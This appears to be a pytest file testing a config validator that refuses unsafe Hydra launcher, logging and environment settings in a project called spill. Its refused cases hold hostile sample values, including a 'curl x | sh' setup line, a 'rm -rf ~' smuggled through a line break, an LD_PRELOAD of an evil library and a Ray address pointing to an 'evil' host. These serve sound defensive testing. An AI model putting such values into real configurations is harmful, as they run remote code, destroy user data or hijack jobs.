"""``hydra_safety.check`` on plain dicts: a composed toy config as Hydra makes it for a sweep,
changed one key at a time; what is allowed passes, what can run code or write files is refused
with one line naming the key. The launcher tables match the installed plugins' dataclasses."""

from __future__ import annotations

import copy
import dataclasses
import importlib
from pathlib import Path

import pytest

from spill.project import config, hydra_safety
from spill.project.config import ConfigError

ROOT = Path(__file__).resolve().parents[3]
TOY = ROOT / "projects" / "toy"
SWEEP_DIR = "/data/sweeps/toy"


@pytest.fixture(scope="module")
def composed() -> dict:
    """projects/toy composed for a sweep, its hydra tree as Hydra's multirun has it."""
    from hydra import initialize_config_dir
    from hydra.core.global_hydra import GlobalHydra
    from hydra.types import RunMode

    overrides = [*config.SILENT, f"hydra.sweep.dir={SWEEP_DIR}", "tune.lr=1e-3,2e-3"]
    with initialize_config_dir(config_dir=str(TOY), version_base="1.3", job_name="spill"):
        hydra = GlobalHydra.instance().hydra
        cfg = hydra.compose_config("spill", overrides, run_mode=RunMode.MULTIRUN)
        return {"doc": hydra_safety.plain(cfg), "overrides": overrides}


def check(composed: dict, changes: dict) -> None:
    """Check the composed config with ``changes`` ({"hydra.launcher.n_jobs": 2, ...}) applied."""
    doc = copy.deepcopy(composed["doc"])
    for path, value in changes.items():
        *parents, last = path.split(".")
        node = doc
        for part in parents:
            if node.get(part) is None:
                node[part] = {}
            node = node[part]
        node[last] = value
    hydra_safety.check(doc, "spill.yaml", composed["overrides"])


JOBLIB = {
    "_target_": "hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher",
    "n_jobs": 2,
}
RAY = "hydra_plugins.hydra_ray_launcher.ray_launcher.RayLauncher"
SLURM = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher"
STDOUT = {
    "version": 1,
    "formatters": {"simple": {"format": "%(message)s"}},
    "handlers": {
        "console": {
            "class": "logging.StreamHandler",
            "formatter": "simple",
            "stream": "ext://sys.stdout",
        }
    },
    "root": {"level": "INFO", "handlers": ["console"]},
    "disable_existing_loggers": False,
}
ALLOWED = {
    "as composed": {},
    "joblib": {"hydra.launcher": JOBLIB},
    "ray with a SPILL_HOME for its workers": {
        "hydra.launcher": {
            "_target_": RAY,
            "ray": {
                "init": {
                    "address": "auto",
                    "object_store_memory": None,
                    "runtime_env": {"env_vars": {"SPILL_HOME": "/data/spill"}},
                },
                "remote": {"num_gpus": 1, "max_retries": 0},
            },
        }
    },
    "slurm as docs/sweeps.md sets it": {
        "hydra.launcher": {
            "_target_": SLURM,
            "submitit_folder": f"{SWEEP_DIR}/.submitit/%j",
            "partition": "gpu",
            "gpus_per_node": 1,
            "timeout_min": 240,
            "signal_delay_s": 120,
            "max_num_timeout": 3,
            "additional_parameters": {"requeue": True, "mail_type": "END"},
            "setup": None,
        }
    },
    "stdout logging": {"hydra.job_logging": STDOUT, "hydra.hydra_logging": STDOUT},
    "no logging config": {"hydra.job_logging": None},
    "a job env var spill reads": {"hydra.job.env_set": {"SPILL_LEASE": "60"}},
    "output_subdir .hydra": {"hydra.output_subdir": ".hydra"},
    "no searchpath": {"hydra.searchpath": []},
    "sweeper params over spill's keys": {"hydra.sweeper.params": {"tune.rank": "4,8"}},
}


@pytest.mark.parametrize("case", sorted(ALLOWED))
def test_allowed(composed, case):
    check(composed, ALLOWED[case])


REFUSED = {  # case: (changes, the key path the error names, a phrase of its reason)
    "callback": (
        {"hydra.callbacks": {"pwn": {"_target_": "builtins.open", "_args_": ["/v", "w"]}}},
        "hydra.callbacks.pwn",
        "Hydra callbacks run code",
    ),
    "launcher target": (
        {"hydra.launcher": {"_target_": "shutil.copyfile", "src": "/a", "dst": "/v"}},
        "hydra.launcher._target_",
        "'shutil.copyfile' is not one of",
    ),
    "ray_aws": (
        {
            "hydra.launcher": {
                "_target_": "hydra_plugins.hydra_ray_launcher.ray_aws_launcher.RayAWSLauncher"
            }
        },
        "hydra.launcher._target_",
        "not one of",
    ),
    "sweeper target": (
        {"hydra.sweeper": {"_target_": "os.makedirs", "name": "/x"}},
        "hydra.sweeper._target_",
        "not one of the Hydra sweepers",
    ),
    "nested target": (
        {"hydra.launcher": {**JOBLIB, "n_jobs": {"_target_": "os.symlink"}}},
        "hydra.launcher.n_jobs._target_",
        "Hydra instantiates a _target_",
    ),
    "partial at a launcher": (
        {"hydra.launcher": {**JOBLIB, "_partial_": True}},
        "hydra.launcher._partial_",
        "Hydra instantiates",
    ),
    "target outside hydra": (
        {"tune._target_": "builtins.open"},
        "tune._target_",
        "spill instantiates nothing",
    ),
    "args outside hydra": (
        {"data._args_": ["/v", "w"]},
        "data._args_",
        "spill instantiates nothing",
    ),
    "launcher extra key": (
        {"hydra.launcher": {**JOBLIB, "backend_args": 1}},
        "hydra.launcher.backend_args",
        "joblib launcher",
    ),
    "joblib temp folder": (
        {"hydra.launcher": {**JOBLIB, "temp_folder": "/home"}},
        "hydra.launcher.temp_folder",
        "memmapped",
    ),
    "joblib backend": (
        {"hydra.launcher": {**JOBLIB, "backend": "dask"}},
        "hydra.launcher.backend",
        "joblib's own",
    ),
    "ray address": (
        {"hydra.launcher": {"_target_": RAY, "ray": {"init": {"address": "ray://evil:10001"}}}},
        "hydra.launcher.ray.init.address",
        "RAY_ADDRESS",
    ),
    "ray runtime_env pip": (
        {"hydra.launcher": {"_target_": RAY, "ray": {"init": {"runtime_env": {"pip": ["evil"]}}}}},
        "hydra.launcher.ray.init.runtime_env.pip",
        "allowed: env_vars",
    ),
    "ray env var": (
        {
            "hydra.launcher": {
                "_target_": RAY,
                "ray": {"remote": {"runtime_env": {"env_vars": {"LD_PRELOAD": "/x.so"}}}},
            }
        },
        "hydra.launcher.ray.remote.runtime_env.env_vars.LD_PRELOAD",
        "load code",
    ),
    "ray temp dir": (
        {"hydra.launcher": {"_target_": RAY, "ray": {"init": {"_temp_dir": "/x"}}}},
        "hydra.launcher.ray.init._temp_dir",
        "ray.init option",
    ),
    "submitit setup": (
        {
            "hydra.launcher": {
                **ALLOWED["slurm as docs/sweeps.md sets it"]["hydra.launcher"],
                "setup": ["curl x | sh"],
            }
        },
        "hydra.launcher.setup",
        "shell lines",
    ),
    "sbatch output": (
        {
            "hydra.launcher": {
                **ALLOWED["slurm as docs/sweeps.md sets it"]["hydra.launcher"],
                "additional_parameters": {"output": "/victim"},
            }
        },
        "hydra.launcher.additional_parameters.output",
        "sbatch option",
    ),
    "sbatch line break": (
        {
            "hydra.launcher": {
                **ALLOWED["slurm as docs/sweeps.md sets it"]["hydra.launcher"],
                "comment": "x\nrm -rf ~",
            }
        },
        "hydra.launcher.comment",
        "line break",
    ),
    "srun_args": (
        {
            "hydra.launcher": {
                **ALLOWED["slurm as docs/sweeps.md sets it"]["hydra.launcher"],
                "srun_args": ["--x"],
            }
        },
        "hydra.launcher.srun_args",
        "submitit_slurm launcher",
    ),
    "submitit folder elsewhere": (
        {
            "hydra.launcher": {
                **ALLOWED["slurm as docs/sweeps.md sets it"]["hydra.launcher"],
                "submitit_folder": f"{SWEEP_DIR}/../../../home/u",
            }
        },
        "hydra.launcher.submitit_folder",
        "not inside the sweep folder",
    ),
    "file handler": (
        {
            "hydra.job_logging": {
                "version": 1,
                "handlers": {"f": {"class": "logging.FileHandler", "filename": "/v", "mode": "w"}},
            }
        },
        "hydra.job_logging.handlers.f.class",
        "FileHandler",
    ),
    "logging factory": (
        {"hydra.hydra_logging": {"version": 1, "formatters": {"f": {"()": "builtins.open"}}}},
        "hydra.hydra_logging.formatters.f.()",
        "factory",
    ),
    "logging ext": (
        {"hydra.job_logging": {"version": 1, "root": {"level": "ext://evil.LEVEL"}}},
        "hydra.job_logging.root.level",
        "imports",
    ),
    "formatter class": (
        {"hydra.job_logging": {"version": 1, "formatters": {"f": {"class": "evil.Formatter"}}}},
        "hydra.job_logging.formatters.f.class",
        "logging formatter",
    ),
    "env_set": (
        {"hydra.job.env_set": {"PYTHONPATH": "/x"}},
        "hydra.job.env_set.PYTHONPATH",
        "load code",
    ),
    "mlx blas": (
        {"hydra.job.env_set": {"SPILL_MLX_BLAS": "/x.so"}},
        "hydra.job.env_set.SPILL_MLX_BLAS",
        "load code",
    ),
    "searchpath": (
        {"hydra.searchpath": ["pkg://spill.conf", "file:///etc"]},
        "hydra.searchpath",
        "pkg://",
    ),
    "output_subdir": ({"hydra.output_subdir": "/etc"}, "hydra.output_subdir", "one folder name"),
    "output_subdir up": ({"hydra.output_subdir": ".."}, "hydra.output_subdir", "one folder name"),
    "sweep subdir": ({"hydra.sweep.subdir": "/x"}, "hydra.sweep.subdir", "record"),
    "sweep mode": ({"hydra.sweep.mode": "777"}, "hydra.sweep.mode", "allowed: dir, subdir"),
    "unknown hydra key": ({"hydra.plugins": {}}, "hydra.plugins", "Hydra setting"),
    "overrides": (
        {"hydra.overrides.hydra": ["hydra/job_logging=evil"]},
        "hydra.overrides.hydra",
        "not on this command line",
    ),
    "sweeper params": (
        {"hydra.sweeper.params": {"+hydra.job.env_set.X": "a,b"}},
        "hydra.sweeper.params.+hydra.job.env_set.X",
        "Hydra's own settings",
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_refused(composed, case):
    changes, key, why = REFUSED[case]
    with pytest.raises(ConfigError) as err:
        check(composed, changes)
    line = str(err.value)
    assert "\n" not in line and line.startswith(f"spill.yaml: {key}: "), line
    assert why in line, line


def test_env_copy_passes_the_shells_own_value(composed, monkeypatch):
    monkeypatch.setenv("LD_PRELOAD", "/usr/lib/the-users-own.so")
    own = {"LD_PRELOAD": "/usr/lib/the-users-own.so"}
    check(composed, {"hydra.job.env_copy": ["LD_PRELOAD"], "hydra.job.env_set": own})
    with pytest.raises(
        ConfigError, match="env_set.LD_PRELOAD: a variable can make a job load code"
    ):
        evil = {"LD_PRELOAD": "/tmp/evil.so"}
        check(composed, {"hydra.job.env_copy": ["LD_PRELOAD"], "hydra.job.env_set": evil})


def test_search_path_is_refused_before_hydra_loads(tmp_path):
    (tmp_path / "spill.yaml").write_text("hydra:\n  searchpath: [pkg://spill.conf, pkg://evil]\n")
    with pytest.raises(
        ConfigError, match=r"^W: hydra.searchpath: \['pkg://spill.conf', 'pkg://evil'\]"
    ):
        hydra_safety.check_sources(tmp_path / "spill.yaml", [], "W")
    (tmp_path / "spill.yaml").write_text("hydra:\n  searchpath: [pkg://spill.conf]\n")
    hydra_safety.check_sources(tmp_path / "spill.yaml", ["tune.lr=1"], "W")
    with pytest.raises(ConfigError, match=r"^W: hydra.callbacks.x: Hydra callbacks run code"):
        hydra_safety.check_sources(
            tmp_path / "spill.yaml", ["hydra.callbacks.x._target_=os.remove"], "W"
        )
    with pytest.raises(ConfigError, match=r"^W: tune._target_: spill instantiates nothing"):
        hydra_safety.check_sources(tmp_path / "spill.yaml", ["+tune._target_=os.remove"], "W")


PLUGINS = {  # the launcher tables against the plugins' own config dataclasses
    "hydra_plugins.hydra_joblib_launcher.config": ("JobLibLauncherConf", hydra_safety.JOBLIB),
    "hydra_plugins.hydra_submitit_launcher.config": ("LocalQueueConf", hydra_safety.SUBMITIT),
    "hydra_plugins.hydra_submitit_launcher.config:slurm": ("SlurmQueueConf", hydra_safety.SLURM),
    "hydra_plugins.hydra_ray_launcher._config": ("RayLauncherConf", ("ray",)),
}


@pytest.mark.parametrize("where", sorted(PLUGINS))
def test_launcher_settings_are_the_plugins_fields(where):
    module = pytest.importorskip(where.split(":")[0], reason="the launcher plugin is not installed")
    name, fields = PLUGINS[where]
    conf = getattr(module, name)
    assert {f.name for f in dataclasses.fields(conf)} == {"_target_", *fields}
    target = {f.name: f.default for f in dataclasses.fields(conf)}["_target_"]
    assert target in hydra_safety.LAUNCHERS
    module_name, _, cls = target.rpartition(".")
    assert hasattr(importlib.import_module(module_name), cls)


def test_plain_resolves_what_it_can():
    from omegaconf import OmegaConf

    cfg = OmegaConf.create({"a": "${b}", "b": 1, "c": "${missing.key}", "d": "???", "e": ["${b}"]})
    assert hydra_safety.plain(cfg) == {"a": 1, "b": 1, "c": "${missing.key}", "d": "???", "e": [1]}
